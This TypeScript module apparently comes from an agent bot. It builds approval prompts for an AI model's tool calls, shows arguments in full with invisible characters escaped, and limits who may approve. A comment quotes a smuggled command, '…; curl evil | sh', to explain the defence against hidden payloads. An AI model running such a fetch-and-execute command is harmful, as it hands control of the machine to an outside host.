/**
 * Approval of tool calls (issue #13 item 5): the texts and buttons a person sees, who may
 * answer, and the results the model gets for calls that were not approved. The durable part
 * (the pending step in the session state, the timeout job) lives with the turn.
 */
import type { Platform, ReplyAction } from "../core/channel.js";
import type { PendingApproval, WaitingCall } from "../core/tools.js";

const APPROVE = "approve";
const DENY = "deny";

/** Telegram's callback_data holds at most 64 bytes: `approve:` plus a UUID is 44. */
export function approvalActions(approvalId: string): ReplyAction[] {
  return [
    { id: `${APPROVE}:${approvalId}`, label: "Approve", style: "primary" },
    { id: `${DENY}:${approvalId}`, label: "Deny", style: "danger" },
  ];
}

/** → the answer a pressed action id carries, or undefined for an id that is not an approval's. */
export function parseApprovalAction(id: string): { approve: boolean; approvalId: string } | undefined {
  const match = /^(approve|deny):([A-Za-z0-9-]{1,60})$/.exec(id);
  if (!match?.[1] || !match[2]) return undefined;
  return { approve: match[1] === APPROVE, approvalId: match[2] };
}

/**
 * One call as a person reads it: where it runs, what it is, and every byte of its arguments.
 * Nothing is cut (a request that hid `…; curl evil | sh` after padding would approve it unseen):
 * long arguments make a long message, which the platforms' splitters carry over several parts
 * with the code block reopened in each.
 */
export function describeCall(call: WaitingCall): string {
  const where = call.server && call.tool ? `${inlineCode(call.tool)} on server ${inlineCode(call.server)}` : inlineCode(call.name);
  return `${where}\n${summariseArguments(call.arguments)}`;
}

/**
 * The arguments in a code block, exactly: JSON pretty-printed (names and values quoted and
 * escaped, so a name holding a line break cannot forge a line of the request), anything else
 * as it came. Characters a reader could not see, and backticks (which could end the block),
 * are written as `\uXXXX` — in JSON the same value.
 */
export function summariseArguments(raw: string): string {
  let parsed: unknown;
  try {
    parsed = raw.trim() === "" ? {} : JSON.parse(raw);
  } catch {
    return `arguments (not JSON, ${raw.length} characters, exactly):\n${codeBlock(visible(raw, { keepLineBreaks: true, raw: true }))}`;
  }
  if (typeof parsed === "object" && parsed !== null && !Array.isArray(parsed) && Object.keys(parsed).length === 0) return "no arguments";
  return `arguments:\n${codeBlock(visible(JSON.stringify(parsed, null, 2), { keepLineBreaks: true, raw: false }), "json")}`;
}

/** Control and invisible characters (bidi overrides, zero-width, variation selectors, tag characters) and the backtick. */
const UNSEEN = /[\u0000-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb`]|[\u{e0000}-\u{e007f}]/gu;
/** The same and the backslash, for text that is not JSON: there `\u0060` must not be ambiguous. */
const UNSEEN_RAW = new RegExp(`${UNSEEN.source}|\\\\`, "gu");

/** Each such character as `\uXXXX` (UTF-16 units); line breaks kept where the text is shown as lines. */
function visible(text: string, options: { keepLineBreaks: boolean; raw: boolean }): string {
  return text.replace(options.raw ? UNSEEN_RAW : UNSEEN, (character) =>
    options.keepLineBreaks && character === "\n"
      ? character
      : Array.from({ length: character.length }, (_, index) => `\\u${character.charCodeAt(index).toString(16).padStart(4, "0")}`).join(""));
}

function codeBlock(text: string, language = ""): string {
  return `\`\`\`${language}\n${text}\n\`\`\``;
}

/** A name in inline code, every character visible, and never able to leave the code span. */
function inlineCode(name: string): string {
  return `\`${visible(name, { keepLineBreaks: false, raw: true })}\``;
}

export function approvalRequestText(pending: PendingApproval, timeoutMs: number): string {
  const calls = pending.waiting.map(describeCall).join("\n\n");
  const plural = pending.waiting.length > 1;
  return [
    `🔐 ${pending.requestedBy.userName}, I'd like to run ${plural ? "these tools" : "this tool"}:`,
    "",
    calls,
    "",
    `Approve or deny${plural ? " (it answers all of them)" : ""}. Without an answer within ${minutes(timeoutMs)} it is denied.`,
  ].join("\n");
}

export type ApprovalOutcome = "approved" | "denied" | "expired" | "superseded" | "stopped";

/** The result the model reads for a call that was not run. */
export function notRunResult(outcome: Exclude<ApprovalOutcome, "approved">, timeoutMs: number): string {
  const why = {
    denied: "the user denied this call",
    expired: `nobody approved this call within ${minutes(timeoutMs)}`,
    superseded: "the user sent a new message instead of answering the approval request",
    stopped: "the user stopped it (/stop)",
  }[outcome];
  return `Error: not run — ${why}.`;
}

/** What replaces the request once it is answered (or follows it, when nobody answered). */
export function outcomeText(pending: PendingApproval, outcome: ApprovalOutcome, by: string | undefined, timeoutMs: number): string {
  const names = pending.waiting.map((call) => `\`${call.name}\``).join(", ");
  switch (outcome) {
    case "approved":
      return `✅ Approved${by ? ` by ${by}` : ""}: ran ${names}.`;
    case "denied":
      return `🚫 Denied${by ? ` by ${by}` : ""}: ${names} not run.`;
    case "expired":
      return `⌛ No answer within ${minutes(timeoutMs)}: ${names} not run.`;
    case "superseded":
      return `↪️ Not answered (a new message came first): ${names} not run.`;
    case "stopped":
      return `⏹️ Stopped: ${names} not run.`;
  }
}

/** What the wrong presser reads, privately (the gateway at the press, or the turn). */
/** The private answer to a press on a request a press already answered (its message shows the outcome). */
export const ALREADY_ANSWERED_TEXT = "This request was already answered.";

export function notYoursText(pending: Pick<PendingApproval, "requestedBy">): string {
  return `Only ${pending.requestedBy.userName}, who asked, or an admin can answer this request.`;
}

/** Only the person who asked, or an admin, may answer; the console user is the operator. */
export function mayAnswer(pending: PendingApproval, answerer: { platform: Platform; userId: string }, admins: Partial<Record<Platform, readonly string[]>>): boolean {
  if (answerer.platform === "console") return true;
  if (answerer.platform === pending.requestedBy.platform && answerer.userId === pending.requestedBy.userId) return true;
  return (admins[answerer.platform] ?? []).includes(answerer.userId);
}

function minutes(ms: number): string {
  const seconds = Math.round(ms / 1000);
  if (seconds < 120) return `${seconds} s`;
  return `${Math.round(seconds / 60)} min`;
}
